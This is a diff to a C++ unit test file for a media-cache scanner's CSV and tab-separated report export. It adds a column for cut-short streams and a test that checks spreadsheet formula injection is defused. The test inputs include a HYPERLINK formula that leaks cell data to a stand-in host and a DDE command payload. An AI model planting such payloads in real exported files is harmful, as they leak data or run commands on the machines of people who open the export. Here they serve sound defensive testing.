@@ -82,23 +82,23 @@ TEST(ScanReport, WholeFileHasMarkHeaderAndOneLinePerRow) {
   const std::vector<std::string> lines = Lines(text.substr(3));
   ASSERT_EQ(lines.size(), 6u);
   EXPECT_EQ(lines[0], Utf8(u8"网址,媒体类型,扩展名,类别,完整长度,已有字节,完整,浏览器,缓存目录,最后写入时间,"
-                           u8"流,已有分段,分段总数,加密"));
+                           u8"流,已有分段,分段总数,加密,截断"));
   EXPECT_EQ(lines[1], Utf8(u8"\"http://a.test/v.mp4?x=1,2\",video/mp4,mp4,视频,1234567,1234567,是,Chromium,"
-                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,,,,"));
+                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,,,,,"));
   EXPECT_EQ(lines[2],
-            Utf8(u8"http://a.test/s.mp3,audio/mpeg,mp3,音频,,99,否,Chromium,C:\\用户\\Cache_Data,,,,,"));
+            Utf8(u8"http://a.test/s.mp3,audio/mpeg,mp3,音频,,99,否,Chromium,C:\\用户\\Cache_Data,,,,,,"));
   EXPECT_EQ(lines[3], Utf8(u8"http://a.test/hls/index.m3u8,video/mp2t,ts,视频,,4000,否,Chromium,"
-                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,HLS,3,8,否"));
+                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,HLS,3,8,否,否"));
   EXPECT_EQ(lines[4], Utf8(u8"http://a.test/hls/index.m3u8,video/mp2t,ts,视频,,4000,是,Chromium,"
-                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,DASH,8,8,是"));
+                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,DASH,8,8,是,否"));
   EXPECT_EQ(lines[5], Utf8(u8"http://a.test/hls/index.m3u8,video/mp2t,ts,视频,,4000,否,Chromium,"
-                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,分段,2,2,否"));
+                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,分段,2,2,否,否"));
 
   const std::vector<std::string> tabbed = Lines(ReportText({SampleRow()}, ReportSeparator::Tab).substr(3));
   ASSERT_EQ(tabbed.size(), 2u);
   EXPECT_EQ(tabbed[1],
             Utf8(u8"http://a.test/v.mp4?x=1,2\tvideo/mp4\tmp4\t视频\t1234567\t1234567\t是\tChromium\t"
-                 u8"C:\\用户\\Cache_Data\t2026-01-02 03:04:05\t\t\t\t"));
+                 u8"C:\\用户\\Cache_Data\t2026-01-02 03:04:05\t\t\t\t\t"));
   // No rows: the header alone.
   EXPECT_EQ(Lines(ReportText({}, ReportSeparator::Tab).substr(3)).size(), 1u);
 }
@@ -117,3 +117,73 @@ TEST(ScanReport, TimesAndForeignBytes) {
   EXPECT_NE(ReportText({row}, ReportSeparator::Comma).find("http://a.test/\xEF\xBF\xBD.mp4"),
             std::string::npos);
 }
+
+namespace {
+
+// The fields of the report's second line (the first row), split on the separator outside quotes.
+std::vector<std::string> FirstRowFields(const std::string& text, char separator) {
+  const std::vector<std::string> lines = Lines(text);
+  std::vector<std::string> fields(1);
+  bool quoted = false;
+  for (const char c : lines.at(1)) {
+    if (c == '"') quoted = !quoted;
+    if (c == separator && !quoted) {
+      fields.emplace_back();
+    } else {
+      fields.back() += c;
+    }
+  }
+  return fields;
+}
+
+TEST(ScanReport, NoFieldIsAFormulaAndMediaTypesKeepTokenCharacters) {
+  ReportRow row = SampleRow();
+  row.webAddress = "=HYPERLINK(\"https://evil.test/?\"&A1,\"open\")";
+  row.mediaType = "=HYPERLINK(\"https://evil.test/?\"&A1,\"open\")";
+  row.browser = "+cmd|' /C calc'!A0";
+  row.cacheFolder = "@SUM(1+1)";
+  row.extension = "-2+3";
+  for (const ReportSeparator separator : {ReportSeparator::Comma, ReportSeparator::Tab}) {
+    const std::vector<std::string> fields =
+        FirstRowFields(ReportText({row}, separator), static_cast<char>(separator));
+    ASSERT_EQ(fields.size(), 15u);
+    for (const std::string& field : fields) {
+      // Unquoted as a spreadsheet reads it.
+      std::string value = field;
+      if (value.size() >= 2 && value.front() == '"') value = value.substr(1, value.size() - 2);
+      if (value.empty()) continue;
+      EXPECT_EQ(std::string_view("=+-@\t\r").find(value.front()), std::string_view::npos) << value;
+    }
+    EXPECT_EQ(fields[0].substr(0, 3), "\"'=");
+    EXPECT_EQ(fields[1], "HYPERLINKhttps/evil.test&A1open");  // no quotes, brackets, commas or "="
+    EXPECT_EQ(fields[2], "'-2+3");
+    EXPECT_EQ(fields[7], "'+cmd|' /C calc'!A0");
+    EXPECT_EQ(fields[8], "'@SUM(1+1)");
+  }
+  // Leading tab and carriage return too; others untouched.
+  EXPECT_EQ(ReportFieldDefused("\tx"), "'\tx");
+  EXPECT_EQ(ReportFieldDefused("\rx"), "'\rx");
+  EXPECT_EQ(ReportFieldDefused("http://a.test/=1"), "http://a.test/=1");
+  EXPECT_EQ(ReportFieldDefused(""), "");
+
+  EXPECT_EQ(ReportMediaTypeCleaned("video/mp4"), "video/mp4");
+  EXPECT_EQ(ReportMediaTypeCleaned("application/vnd.apple.mpegurl; charset=\"utf-8\""),
+            "application/vnd.apple.mpegurl");
+  EXPECT_EQ(ReportMediaTypeCleaned("video/mp4\r\n=1+1"), "video/mp41+1");
+  EXPECT_EQ(ReportMediaTypeCleaned("mp4"), "");
+  EXPECT_EQ(ReportMediaTypeCleaned("=/"), "");
+}
+
+TEST(ScanReport, CutShortStreamsSaySo) {
+  ReportRow row = SampleRow();
+  row.stream = ReportStream{ReportStreamKind::Hls, 1, 100000, false, true};
+  const std::vector<std::string> fields = FirstRowFields(ReportText({row}, ReportSeparator::Comma), ',');
+  ASSERT_EQ(fields.size(), 15u);
+  EXPECT_EQ(fields[14], Utf8(u8"是"));
+  row.stream->cutShort = false;
+  EXPECT_EQ(FirstRowFields(ReportText({row}, ReportSeparator::Comma), ',')[14], Utf8(u8"否"));
+  row.stream.reset();
+  EXPECT_EQ(FirstRowFields(ReportText({row}, ReportSeparator::Comma), ',')[14], "");
+}
+
+}  // namespace
